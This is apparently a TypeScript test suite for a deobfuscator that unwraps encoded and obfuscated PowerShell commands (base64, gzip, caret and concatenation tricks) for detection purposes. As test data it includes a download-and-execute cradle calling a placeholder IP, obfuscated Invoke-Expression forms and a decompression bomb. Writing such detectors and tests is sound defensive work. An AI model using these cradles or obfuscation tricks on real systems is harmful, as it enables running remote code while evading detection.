import { deflateRawSync, gzipSync } from 'node:zlib';
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { mayHide, PEEL_LIMITS, peel } from './index.ts';

const wide = (text: string): string => Buffer.from(text, 'utf16le').toString('base64');
const narrow = (text: string): string => Buffer.from(text, 'utf8').toString('base64');
const COMMAND = 'Write-Host "caught"';
const last = (text: string): string | undefined => peel(text).at(-1)?.text;

describe('an encoded command is found behind', () => {
  const names = ['e', 'ec', 'en', 'enc', 'eNcO', 'encodedcomman', 'EncodedCommand', 'encodeda', 'EncodedArguments'];
  const cases = names.flatMap((name) => ['-', '/', '\u2013', '\u2014', '\u2015'].map((dash) => `${dash}${name} `));
  test.each([...cases, '-enc:', '-enc: ', '-enc   ', '-e\t'])('%j', (flag) => {
    expect(peel(`powershell -nop ${flag}${wide(COMMAND)} -w 1`).map(({ kind, text }) => [kind, text])).toEqual([
      ['base64-utf16le', COMMAND],
    ]);
  });

  test.each(['"', "'", '\\"'])('quotes %s', (quote) => {
    expect(last(`powershell.exe -enc ${quote}${wide(COMMAND)}${quote}`)).toBe(COMMAND);
  });
});

test.each([
  { name: 'UTF-16LE', kind: 'base64-utf16le', bytes: Buffer.from('echo "Hi!"', 'utf16le'), text: 'echo "Hi!"' },
  { name: 'ASCII', kind: 'base64-utf8', bytes: Buffer.from('echo "Hi!"\n'), text: 'echo "Hi!"\n' },
  {
    name: 'UTF-8 with Hangul',
    kind: 'base64-utf8',
    bytes: Buffer.from('type C:\\보고서.txt'),
    text: 'type C:\\보고서.txt',
  },
  {
    name: 'UTF-16LE with Hangul',
    kind: 'base64-utf16le',
    bytes: Buffer.from('type 보고서.txt', 'utf16le'),
    text: 'type 보고서.txt',
  },
  {
    name: 'UTF-16LE, then ASCII',
    kind: 'base64-mixed',
    bytes: Buffer.concat([Buffer.from('IEX ', 'utf16le'), Buffer.from('"dir c:"')]),
    text: 'IEX "dir c:"',
  },
  {
    name: 'ASCII, then UTF-16LE',
    kind: 'base64-mixed',
    bytes: Buffer.concat([Buffer.from('IEX '), Buffer.from('"dir c:"', 'utf16le')]),
    text: 'IEX "dir c:"',
  },
  {
    name: 'CP949',
    kind: 'base64-cp949',
    bytes: Buffer.concat([
      Buffer.from('type C:\\docs\\'),
      Buffer.from([0xba, 0xb8, 0xb0, 0xed, 0xbc, 0xad]),
      Buffer.from('.txt'),
    ]),
    text: 'type C:\\docs\\보고서.txt',
  },
  {
    name: 'UTF-16BE',
    kind: 'base64-utf16be',
    bytes: Buffer.from('whoami /all', 'utf16le').swap16(),
    text: 'whoami /all',
  },
  {
    name: 'a cut UTF-16LE',
    kind: 'base64-utf16le',
    bytes: Buffer.from('Get-Process', 'utf16le').subarray(0, 15),
    text: 'Get-Pro',
  },
])('bytes that are $name', ({ kind, bytes, text }) => {
  expect(peel(`powershell -enc ${bytes.toString('base64')}`)).toMatchObject([{ kind, text, parent: -1 }]);
});

test.each([
  { text: 'p^owe^rshell -c 1', plain: 'powershell -c 1', kind: 'caret' },
  { text: 'Inv`oke-Exp`ression $x', plain: 'Invoke-Expression $x', kind: 'backtick' },
  { text: 'cmd /c po""wershell', plain: 'cmd /c powershell', kind: 'quotes' },
  { text: 'cmd /c p"owe"rshell', plain: 'cmd /c powershell', kind: 'quotes' },
  { text: `&("po"+"wershell") 'x'`, plain: `&("powershell") 'x'`, kind: 'concat' },
  { text: `$a = 'Net.' + '' + "Web" +' Client'`, plain: `$a = 'Net.Web Client'`, kind: 'concat' },
  { text: `&('{1}{0}' -f 'ex','I') $c`, plain: `&('Iex') $c`, kind: 'format' },
])('$kind: $text', ({ text, plain, kind }) => {
  expect(peel(text)).toEqual([{ kind, parent: -1, from: { start: 0, end: text.length }, text: plain }]);
});

test('characters by number are read, then joined', () => {
  expect(peel('&([char]73+[char]0x45+[char]88) $c').map(({ kind, text }) => [kind, text])).toEqual([
    ['chars', "&('I'+'E'+'X') $c"],
    ['concat', "&('IEX') $c"],
  ]);
});

test.each([
  'echo a ^& echo b',
  '"line one`nline two"',
  '"C:\\Program Files\\App\\app.exe" --encoding utf8 -e production',
  'cmd /c "echo ""quoted"""',
  'MpCmdRun.exe GetDeviceTicket -AccessKey 1D8D6829-51FD-BC41-0361-8E760680CAEF',
  'app.exe --sha256 9785001B0DCF755EDDB8AF294A373C0B87B2498660F724E76C4D53F9C217C7A3',
  'app.exe --token 9785001b0dcf755eddb8af294a373c0b87b2498660f724e76c4d53f9c217c7a3',
  'c:/WindowsPowerShell/Modules/PackageManagementProvider/Analysis/Resources/index',
  'node.exe --integrity sha512-q1MJRdMVNwE9FzWzVv6JX7gHqKb7sWc2H0p8cO7Zb1a+Zf0vTn3X9r0eG5rIu4bYw==',
])('nothing is made up of %s', (text) => {
  expect(peel(text)).toEqual([]);
});

test('layers nest, and each tells its parent and where it stood', () => {
  const inner = `powershell -enc ${wide(COMMAND)}`;
  const outer = `cmd /c pow^ersh^ell -e ${narrow(inner)}`;
  const plain = outer.replaceAll('^', '');
  expect(peel(outer)).toEqual([
    { kind: 'caret', parent: -1, from: { start: 0, end: outer.length }, text: plain },
    { kind: 'base64-utf8', parent: 0, from: { start: plain.indexOf(narrow(inner)), end: plain.length }, text: inner },
    {
      kind: 'base64-utf16le',
      parent: 1,
      from: { start: inner.indexOf(wide(COMMAND)), end: inner.length },
      text: COMMAND,
    },
  ]);
});

test.each([
  { kind: 'gzip', pack: gzipSync, stream: 'GzipStream' },
  { kind: 'deflate', pack: deflateRawSync, stream: 'DeflateStream' },
])('$kind below base64', ({ kind, pack, stream }) => {
  const script = 'IEX (New-Object Net.WebClient).DownloadString("http://192.0.2.1/a")';
  const packed = pack(Buffer.from(script)).toString('base64');
  expect(
    peel(`$s=New-Object IO.Compression.${stream}([IO.MemoryStream][Convert]::FromBase64String("${packed}"))`),
  ).toMatchObject([{ kind, text: script }]);
});

test('a bomb is refused, a cut stream gives what it holds', () => {
  const bomb = gzipSync(Buffer.alloc(8_000_000, 'a')).toString('base64');
  expect(peel(`x FromBase64String('${bomb}')`)).toEqual([]);
  const script = Array.from({ length: 40 }, (_, i) => `Write-Host line${i}`).join('\n');
  const cut = gzipSync(Buffer.from(script), { level: 0 }).subarray(0, 300).toString('base64');
  expect(script.startsWith(last(`x FromBase64String('${cut}')`) ?? 'none')).toBe(true);
});

test('base64 in a script, over several lines or in pieces', () => {
  const letters = narrow('Start-Process calc.exe; Write-Output done');
  expect(last(`[Convert]::FromBase64String("${letters.slice(0, 20)}\r\n${letters.slice(20)}")`)).toMatch(
    /^Start-Process/,
  );
  expect(last(`$a='${letters.slice(0, 17)}'+'${letters.slice(17)}'; run $a`)).toMatch(/^Start-Process/);
  expect(last(`app.exe ${letters}`)).toMatch(/^Start-Process/);
});

test('depth, number and size are bounded', () => {
  let nested = COMMAND;
  for (let i = 0; i < 12; i++) nested = `x -enc ${narrow(nested)}`;
  expect(peel(nested)).toHaveLength(PEEL_LIMITS.maxDepth);
  const many = Array.from({ length: 200 }, (_, i) => `-enc ${wide(`Write-Host number ${i}`)}`).join(' ');
  expect(peel(many)).toHaveLength(PEEL_LIMITS.maxLayers);
  const total = peel(`-enc ${narrow('a b c '.repeat(100_000))}`, { ...PEEL_LIMITS, maxText: 500 });
  expect(total.every((layer) => layer.text.length <= 500)).toBe(true);
});

test('property: an encoded readable command comes back, whatever its encoding', () => {
  const command = fc
    .tuple(
      fc.constantFrom('Get-Item', 'whoami', 'iex', 'Start-Process'),
      fc.string({ unit: 'grapheme-ascii', maxLength: 60 }),
    )
    .map(([head, tail]) => `${head} ${tail.replace(/[\^`"'+]/g, ' ')}`);
  fc.assert(
    fc.property(command, fc.constantFrom(wide, narrow), (text, encode) => {
      expect(peel(`powershell -enc ${encode(text)}`)[0]?.text).toBe(text);
    }),
    { seed: 1, numRuns: 500 },
  );
});

test('property: random bytes give no text', () => {
  fc.assert(
    fc.property(fc.uint8Array({ minLength: 24, maxLength: 400 }), (bytes) => {
      if (bytes.filter((byte) => byte < 0x20 || byte > 0x7e).length < 8) return;
      expect(
        peel(`app.exe ${Buffer.from(bytes).toString('base64')}`).filter(({ kind }) => kind.startsWith('base64')),
      ).toEqual([]);
    }),
    { seed: 2, numRuns: 2000 },
  );
});

test('fuzz: any text is peeled within its bounds, and what is peeled was worth a look', () => {
  const piece = fc.oneof(
    fc.string({ unit: 'binary', maxLength: 30 }),
    fc.constantFrom(
      '^',
      '`',
      '"+"',
      "'+'",
      ' -enc ',
      ' /e:',
      '[char]',
      '73',
      '"{0}{1}"-f',
      "FromBase64String('",
      "'",
      '"',
      '""',
      ',',
    ),
    fc.uint8Array({ maxLength: 60 }).map((bytes) => Buffer.from(bytes).toString('base64')),
    fc.string({ maxLength: 40 }).map((text) => wide(text)),
    fc.constant('deflate H4sIAAAAAAAAA'),
  );
  fc.assert(
    fc.property(fc.array(piece, { maxLength: 40 }), (pieces) => {
      const text = pieces.join('');
      const layers = peel(text);
      expect(layers.length === 0 || mayHide(text)).toBe(true);
      for (const [i, layer] of layers.entries()) {
        expect(layer.parent).toBeLessThan(i);
        const of = layer.parent < 0 ? text : layers[layer.parent]!.text;
        expect(layer.from.start >= 0 && layer.from.start < layer.from.end && layer.from.end <= of.length).toBe(true);
      }
    }),
    { seed: 3, numRuns: 3000 },
  );
});

test.each([
  ['^', '^'.repeat(200_000)],
  ['a^', 'a^'.repeat(100_000)],
  ['-e ', '-e '.repeat(80_000)],
  ['-enc blanks', `-enc${' '.repeat(200_000)}`],
  ['FromBase64String(', "FromBase64String('".repeat(14_000)],
  ['quotes', '"'.repeat(200_000)],
  ['"a', '"a'.repeat(100_000)],
  ['"{0}', '"{0}'.repeat(60_000)],
  ['"{0}{1}" -f "', '"{0}{1}" -f "'.repeat(20_000)],
  ["'x' +", "'x' + ".repeat(40_000)],
  ['[char] ', '[char]  ('.repeat(28_000)],
  ['letters', 'Ab'.repeat(130_000)],
])('no quadratic time: many %s', (_, text) => {
  const start = performance.now();
  peel(text);
  expect(performance.now() - start).toBeLessThan(1500);
});
